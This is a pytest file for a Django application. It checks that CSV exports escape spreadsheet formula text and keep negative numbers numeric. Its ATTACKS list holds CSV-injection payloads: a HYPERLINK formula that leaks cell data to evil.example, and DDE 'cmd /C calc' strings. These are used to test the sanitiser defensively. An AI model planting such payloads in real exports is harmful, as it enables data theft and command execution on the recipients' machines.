"""Every CSV download neutralises text a spreadsheet would run as a formula (a cell that
starts with = + - @, a tab or a carriage return gets a leading '), whoever wrote it: a
measure's or a room's name, a cohort's, an organisation's. Numbers stay numbers, negative
ones too, so a downloaded chart still adds up.

The downloads: a measure's data, an organisation's measure summary, the programme figures
and the audit log. (No download is an Excel workbook.)"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from fca import audit
from fca.csvio import safe_cell
from fca.models import Cohort
from measures.models import Measure

# What people have put in names to attack whoever opens the download in Excel.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def _assert_neutral(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: any that starts like a formula is a plain number."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # raises for anything but a number such as -5.5


def _column(rows, heading: str) -> list[str]:
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


def test_safe_cell_quotes_formula_text_and_keeps_numbers_numbers():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    assert safe_cell("Zoë – £5") == "Zoë – £5"
    assert safe_cell(-5.5) == "-5.5" and safe_cell(-3) == "-3" and safe_cell(0.1) == "0.1"
    assert safe_cell(Decimal("-2.50")) == "-2.50"  # a decimal is a number too
    assert safe_cell(None) == ""
    assert safe_cell("-5") == "'-5"  # text that looks like a number is still text


def test_a_measures_data_keeps_negative_values_as_numbers(client, cast):
    for day, value in ((date(2026, 1, 5), -5.5), (date(2026, 1, 12), 2.0)):
        cast.measure.points.create(period=day, value=value)
    client.force_login(cast.alice)
    rows = _cells(client.get(reverse("measure_csv", args=[cast.measure.pk])))
    _assert_neutral(rows)
    assert _column(rows, "value") == ["-5.5", "2"]


def test_the_organisation_measure_summary_neutralises_names(client, cast):
    cast.room.name = ATTACKS[1]
    cast.room.save()
    for attack in ATTACKS:
        measure = Measure.objects.create(room=cast.room, name=attack, frequency="weekly",
                                         target=-3)  # fmt: skip
        measure.points.create(period=date(2026, 1, 5), value=-5.5)
    client.force_login(cast.quinn)
    rows = _cells(client.get(reverse("organisation_measures_csv", args=[cast.north.pk])))
    _assert_neutral(rows)
    names = _column(rows, "measure")
    for attack in ATTACKS:
        assert "'" + attack in names
    assert set(_column(rows, "room or pathway")) == {"'" + ATTACKS[1]}
    latest = [v for n, v in zip(names, _column(rows, "latest value"), strict=True) if n != (
        cast.measure.name)]  # fmt: skip
    assert set(latest) == {"-5.5"} and "-3" in _column(rows, "target")


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_programme_figures_neutralise_a_cohorts_name(client, cast, attack):
    cohort = Cohort.objects.create(name=attack, academy="FCA", starts_on=date(2026, 1, 5))
    client.force_login(cast.ada)
    rows = _cells(client.get(reverse("programme_csv"), {"scope": f"cohort-{cohort.pk}"}))
    _assert_neutral(rows)
    assert set(_column(rows, "scope")) == {"'" + attack}


def test_the_audit_log_neutralises_names_people_gave(client, cast):
    cast.north.name = ATTACKS[3]
    cast.north.save()
    for attack in ATTACKS:
        measure = Measure.objects.create(room=cast.room, name=attack, frequency="weekly")
        client.force_login(cast.alice)
        client.get(reverse("measure_csv", args=[measure.pk]))  # logged, naming the measure
    audit.record("export", actor=cast.alice, target=cast.measure, format="csv")
    client.force_login(cast.ada)
    rows = _cells(client.get(reverse("audit_log_csv")))
    _assert_neutral(rows)
    names = _column(rows, "Object name")
    for attack in ATTACKS:
        assert "'" + attack in names
    assert "'" + ATTACKS[3] in _column(rows, "Organisation")
